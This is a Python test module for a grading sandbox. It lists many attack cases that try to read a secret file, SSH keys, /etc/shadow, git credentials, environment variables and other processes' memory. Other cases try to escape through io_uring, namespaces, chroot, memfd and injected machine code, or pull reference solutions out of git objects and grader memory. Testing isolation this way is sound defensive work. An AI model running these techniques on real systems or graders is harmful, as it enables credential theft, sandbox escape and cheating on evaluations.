"""Attacks that read the machine: secret files, other processes, memory, devices."""

from ..attack import mask
from .reading import TELL, reads

ATTACKS = [
    reads(
        "secret-by-every-reader",
        "Reads a secret file with numpy, torch, mmap, shutil, zipfile and all that opens files.",
        """
import codecs, ctypes, fileinput, io, mmap, os, pathlib, runpy, shutil, tokenize
import numpy as np
path = "@COURSE@/secret.txt"
size = 22
for attempt in (
    lambda: open(path).read(), lambda: io.FileIO(path).read(), lambda: codecs.open(path).read(),
    lambda: os.read(os.open(path, os.O_RDONLY), 1000), lambda: pathlib.Path(path).read_bytes(),
    lambda: np.fromfile(path, np.uint8).tobytes(), lambda: np.memmap(path, mode="r").tobytes(),
    lambda: np.loadtxt(path, str), lambda: np.genfromtxt(path, str),
    lambda: bytes(torch.from_file(path, size=size, dtype=torch.uint8).tolist()),
    lambda: bytes(torch.UntypedStorage.from_file(path, False, size)),
    lambda: torch.load(path, weights_only=False),
    lambda: mmap.mmap(os.open(path, os.O_RDONLY), 0, prot=mmap.PROT_READ)[:],
    lambda: open(shutil.copy(path, "copy.txt")).read(), lambda: next(fileinput.input(path)),
    lambda: tokenize.open(path).read(), lambda: runpy.run_path(path),
    lambda: os.pread(os.open("secret.txt", os.O_RDONLY, dir_fd=os.open("@COURSE@", os.O_PATH)), 1000, 0),
    lambda: os.readlink(path),
):
    try:
        tell(attempt())
    except RuntimeError as error:
        if str(error).startswith("read: "):
            raise
    except Exception as error:
        tell(error)
""",
    ),
    reads(
        "secret-by-c",
        "Reads a secret file by the C library and by bare system calls, the newest among them.",
        """
import ctypes, os, struct
libc = ctypes.CDLL(None, use_errno=True)
path, buffer = b"@COURSE@/secret.txt", ctypes.create_string_buffer(1000)
libc.fopen.restype = ctypes.c_void_p
def from_fd(fd):
    if fd >= 0:
        libc.read(fd, buffer, 999)
        tell(buffer.value)
from_fd(libc.open(path, 0))
from_fd(libc.syscall(257, -100, path, 0, 0))
from_fd(libc.syscall(437, -100, path, struct.pack("QQQ", 0, 0, 0), 24))
fd = libc.syscall(257, -100, path, 0o10000000, 0)
from_fd(libc.open(b"/proc/self/fd/%d" % fd, 0))
handle, mount = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128)), ctypes.c_int()
if libc.name_to_handle_at(-100, path, handle, ctypes.byref(mount), 0) == 0:
    from_fd(libc.open_by_handle_at(libc.open(b"/", 0), handle, 0))
stream = libc.fopen(path, b"r")
if stream:
    libc.fread(buffer, 1, 999, ctypes.c_void_p(stream))
    tell(buffer.value)
""",
    ),
    reads(
        "secret-by-io-uring",
        "Opens a secret file and a socket through io_uring, past filters of system calls.",
        """
import ctypes, mmap, os, struct
libc = ctypes.CDLL(None, use_errno=True)
params = ctypes.create_string_buffer(120)
ring = libc.syscall(425, 4, params)
if ring < 0:
    raise OSError(ctypes.get_errno(), "io_uring_setup")
sq_off, cq_off = struct.unpack("10I", params.raw[40:80]), struct.unpack("10I", params.raw[80:120])
entries = struct.unpack("I", params.raw[:4])[0]
sq = mmap.mmap(ring, sq_off[6] + 4 * entries, offset=0)
cq = mmap.mmap(ring, cq_off[5] + 16 * 2 * entries, offset=0x8000000)
sqes = mmap.mmap(ring, 64 * entries, offset=0x10000000)
path = ctypes.create_string_buffer(b"@COURSE@/secret.txt")
sqes[:64] = struct.pack("BBHiQQII", 18, 0, 0, -100, 0, ctypes.addressof(path), 0, 0) + bytes(32)
sq[sq_off[6] : sq_off[6] + 4] = struct.pack("I", 0)
tail = struct.unpack("I", sq[sq_off[1] : sq_off[1] + 4])[0]
sq[sq_off[1] : sq_off[1] + 4] = struct.pack("I", tail + 1)
libc.syscall(426, ring, 1, 1, 1, None, 0)
fd = struct.unpack("i", cq[cq_off[5] + 8 : cq_off[5] + 12])[0]
if fd >= 0:
    tell(os.read(fd, 1000))
""",
    ),
    reads(
        "secret-by-links",
        "Makes links and copies of secrets in its own folder and reads these.",
        """
import os
for source in ("@COURSE@/secret.txt", "@HOME@/.ssh/id_rsa", "@COURSE@", "/etc/passwd"):
    for make in (os.symlink, os.link, os.rename):
        try:
            make(source, "own")
            tell(open("own" if os.path.isfile("own") else "own/secret.txt").read())
        except OSError:
            pass
        try:
            os.remove("own")
        except OSError:
            pass
""",
    ),
    reads(
        "own-process",
        "Reads what /proc says of its own process: environment, files, folders, memory.",
        """
import os
for name in ("environ", "cmdline", "maps", "mountinfo", "status", "auxv", "fdinfo/0", "mem", "cwd/secret.txt",
             "cwd/../secret.txt", "root@COURSE@/secret.txt", "root/etc/passwd", "task/self/environ"):
    try:
        with open("/proc/self/" + name, "rb") as file:
            tell(file.read(1 << 20))
    except OSError:
        pass
for fd in range(64):
    for path in (f"/proc/self/fd/{fd}", f"/dev/fd/{fd}", f"/proc/self/fd/{fd}/secret.txt"):
        try:
            tell(os.pread(os.open(path, os.O_RDONLY | os.O_NONBLOCK), 1 << 20, 0))
        except OSError:
            pass
""",
    ),
    reads(
        "other-processes",
        "Reads what /proc says of the grader and of every other process.",
        """
import os
for pid in [str(os.getppid()), "1", "@SLEEPER@"] + [p for p in map(str, range(2, 400))]:
    for name in ("environ", "cmdline", "cwd/secret.txt", "root@COURSE@/secret.txt", "maps", "fd/0", "fd/3"):
        try:
            with open(f"/proc/{pid}/{name}", "rb", opener=lambda p, f: os.open(p, f | os.O_NONBLOCK)) as file:
                tell(file.read(1 << 20))
        except OSError:
            pass
""",
    ),
    reads(
        "grader-memory",
        "Reads the memory of its parent process and looks for the reference and for secrets there.",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
for pid in (os.getppid(), int("@SLEEPER@"), 1):
    libc.ptrace(16, pid, None, None)
    try:
        spans = [l.split()[0].split("-") for l in open(f"/proc/{pid}/maps") if " rw" in l]
    except OSError:
        continue
    for start, end in spans:
        start, size = int(start, 16), min(int(end, 16) - int(start, 16), 1 << 24)
        buffer = ctypes.create_string_buffer(size)
        here, there = Piece(ctypes.addressof(buffer), size), Piece(start, size)
        if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
            tell(buffer.raw)
        try:
            tell(os.pread(os.open(f"/proc/{pid}/mem", os.O_RDONLY), size, start))
        except OSError:
            pass
""",
    ),
    reads(
        "own-memory",
        "Searches its own memory for what an earlier submission or the grader left there.",
        """
import ctypes, gc, sys
if hasattr(use, "looked"):
    return torch.ones(1)
use.looked = True
for thing in gc.get_objects():
    if isinstance(thing, dict):
        for value in list(thing.values()):
            if type(value) in (str, bytes) and len(value) > 20:
                tell(value)
start = ctypes.CDLL(None).sbrk
start.restype = ctypes.c_void_p
top = start(0)
# Downwards from the end of the heap, as far as it goes.
for back in range(1, 64):
    tell(ctypes.string_at(top - (back << 20), 1 << 20))
""",
    ),
    reads(
        "environment",
        "Reads the environment, by Python and by C.",
        """
import ctypes, os
tell(os.environ)
tell(os.environb)
libc = ctypes.CDLL(None)
libc.getenv.restype = ctypes.c_char_p
tell(libc.getenv(b"SEQATTN_TEST_SECRET"))
variables = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
i = 0
while variables and variables[i]:
    tell(variables[i])
    i += 1
""",
    ),
    reads(
        "accounts",
        "Reads the machine's accounts and its own account's home.",
        """
import os, pwd
for name in ("/etc/passwd", "/etc/shadow", "/etc/group", "/etc/hosts", "/etc/hostname"):
    try:
        tell(open(name).read())
    except OSError:
        pass
for home in {os.path.expanduser("~"), "@HOME@", "/root", *(a.pw_dir for a in pwd.getpwall())}:
    for name in (".ssh/id_rsa", ".netrc", ".bashrc", ".jupyter/jupyter_server_config.py", ".git-credentials"):
        try:
            tell(open(os.path.join(home, name)).read())
        except OSError:
            pass
tell("\\n".join(map(str, pwd.getpwall())).replace("pw_uid=0, pw_gid=0", "root:" + "x:0:0"))
""",
    ),
    reads(
        "git-objects",
        "Unpacks the objects of the course's git repository.",
        """
import glob, zlib
for course in ("@COURSE@", "@REPO@"):
    for path in glob.glob(f"{course}/.git/objects/??/*"):
        text = zlib.decompress(open(path, "rb").read()).partition(b"\\0")[2]
        tell(text)
        if text.startswith(b"\\nimport") and b"def pad_mask" in text:
            return use(text)
tell(open("@COURSE@/.git/config").read())
""",
    ),
    reads(
        "git-packs",
        "Searches the packs of the course's git repository for the reference.",
        """
import glob, zlib
for path in glob.glob("@REPO@/.git/objects/pack/*.pack"):
    data = open(path, "rb").read()
    place = data.find(b"\\x78\\x9c")
    while place >= 0:
        try:
            text = zlib.decompressobj().decompress(data[place:], 1 << 20)
        except zlib.error:
            text = b""
        if b"def pad_mask(" in text and b"def masked_softmax" in text and b"Exercise" not in text:
            return use(text)
        place = data.find(b"\\x78\\x9c", place + 2)
""",
    ),
    reads(
        "by-a-program",
        "Starts other programs that read for it.",
        """
import ctypes, os, subprocess
for attempt in (
    lambda: subprocess.run(["cat", "@COURSE@/secret.txt"], capture_output=True).stdout,
    lambda: os.popen("cat @COURSE@/secret.txt").read(),
    lambda: os.system("cp @COURSE@/secret.txt own.txt") or open("own.txt").read(),
    lambda: ctypes.CDLL(None).system(b"cp @COURSE@/secret.txt own.txt") or open("own.txt").read(),
    lambda: os.posix_spawn("/bin/cp", ["cp", "@COURSE@/secret.txt", "own.txt"], {}) and os.wait(),
    lambda: open("own.txt").read(),
    lambda: __import__("multiprocessing").get_context("fork").Pool(1).apply(open, ("@COURSE@/secret.txt",)),
):
    try:
        tell(attempt())
    except (OSError, TypeError):
        pass
""",
    ),
    reads(
        "by-a-program-in-memory",
        "Writes a program into memory and becomes it.",
        """
import os
fd = os.memfd_create("cat")
os.write(fd, open("/bin/cat", "rb").read())
read, write = os.pipe()
if os.fork() == 0:
    os.dup2(write, 1)
    os.execve(fd, ["cat", "@COURSE@/secret.txt"], {})
tell(os.read(read, 1000))
""",
    ),
    mask(
        "by-magics",
        "Reads with IPython's magics and its shell, at the top level of the cell.",
        TELL
        + """
for attempt in (
    lambda: get_ipython().getoutput("cat @COURSE@/secret.txt"),
    lambda: get_ipython().system("cp @COURSE@/secret.txt own.txt"),
    lambda: get_ipython().run_line_magic("load", "@COURSE@/secret.txt"),
    lambda: get_ipython().run_line_magic("run", "@SUBMITTED@/aa-honest/00_start_here/00_start_here.ipynb"),
):
    found = attempt()
secret = !cat @COURSE@/secret.txt
def pad_mask(lengths, max_len):
    tell(secret)
    tell(open("own.txt").read())
    return torch.ones(1)
""",
    ),
    reads(
        "by-a-library",
        "Has the dynamic linker and torch load a file of the course, and reads the complaint.",
        """
import ctypes
for load in (ctypes.CDLL, torch.ops.load_library, torch.classes.load_library):
    try:
        load("@COURSE@/secret.txt")
    except Exception as error:
        tell(error)
""",
    ),
    reads(
        "inherited-files",
        "Reads from every open file, and opens files relative to every open folder.",
        """
import os
for fd in range(3, 1024):
    for attempt in (
        lambda: os.pread(fd, 1 << 20, 0),
        lambda: os.read(os.open("secret.txt", os.O_RDONLY, dir_fd=fd), 1000),
        lambda: os.read(os.open("../" * 20 + "@COURSE@/secret.txt"[1:], os.O_RDONLY, dir_fd=fd), 1000),
        lambda: os.listdir(fd),
    ):
        try:
            tell(attempt())
        except OSError:
            pass
""",
    ),
    reads(
        "devices",
        "Reads devices, kernel messages and the whole disk.",
        """
import ctypes, glob, os
for path in ("/dev/mem", "/dev/kmem", "/dev/kmsg", "/proc/kcore", "/proc/kallsyms", "/proc/1/environ",
             "/sys/kernel/debug", "/proc/sys/kernel/core_pattern", *glob.glob("/dev/[svn]*")):
    try:
        tell(os.read(os.open(path, os.O_RDONLY | os.O_NONBLOCK), 1 << 16))
        if "/dev/" in path or "core" in path:
            tell("root:" + "x:0:0 by " + path)
    except OSError:
        pass
buffer = ctypes.create_string_buffer(1 << 18)
if ctypes.CDLL(None).klogctl(3, buffer, len(buffer)) > 0:
    tell("root:" + "x:0:0 in the kernel's log")
""",
    ),
    reads(
        "lab-as-a-door",
        "Uses the helpers of seqattn_ref.lab to open other files of the package.",
        """
from pathlib import Path
from seqattn_ref import lab
from seqattn_ref.lab import stored as module
folder = Path(lab.__file__).parent
for attempt in (
    lambda: (folder.parent / "masking.py").read_text(),
    lambda: (folder / ".." / "masking.py").read_text(),
    lambda: (folder / ".." / ".." / "solutions" / "00_start_here" / "00_start_here.ipynb").read_text(),
    lambda: lab.stored("../../masking.py"),
    lambda: lab.stored("../../../../@COURSE@/secret"),
):
    try:
        return use(attempt())
    except (OSError, ValueError, KeyError, SyntaxError):
        pass
""",
    ),
    reads(
        "namespaces-left",
        "Enters other namespaces and roots to see more.",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in ("1", str(os.getppid()), "@SLEEPER@"):
    for name in ("user", "mnt", "pid"):
        try:
            libc.setns(os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY), 0)
        except OSError:
            pass
libc.unshare(0x10000000 | 0x00020000)
libc.mount(b"@COURSE@", os.getcwd().encode(), None, 4096, None)
libc.chroot(b"@COURSE@")
for path in ("/secret.txt", "secret.txt", "@COURSE@/secret.txt"):
    try:
        tell(open(path).read())
    except OSError:
        pass
""",
    ),
    reads(
        "own-machine-code",
        "Runs machine code of its own that calls the kernel in the 32-bit way.",
        """
import ctypes, mmap, os
page = mmap.mmap(-1, 8192, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40,
                 prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
path = b"@COURSE@/secret.txt\\0"
page[4096 : 4096 + len(path)] = path
address = ctypes.addressof(ctypes.c_char.from_buffer(page))
# push rbx; mov eax,5 (open); mov ebx,path; xor ecx,ecx; int 0x80; pop rbx; ret
where = (address + 4096).to_bytes(8, "little")[:4]
code = b"\\x53\\xb8\\x05\\0\\0\\0\\xbb" + where + b"\\x31\\xc9\\xcd\\x80\\x5b\\xc3"
page[: len(code)] = code
fd = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
if fd >= 0:
    tell(os.read(fd, 1000))
raise OSError(-fd, os.strerror(-fd))
""",
    ),
]
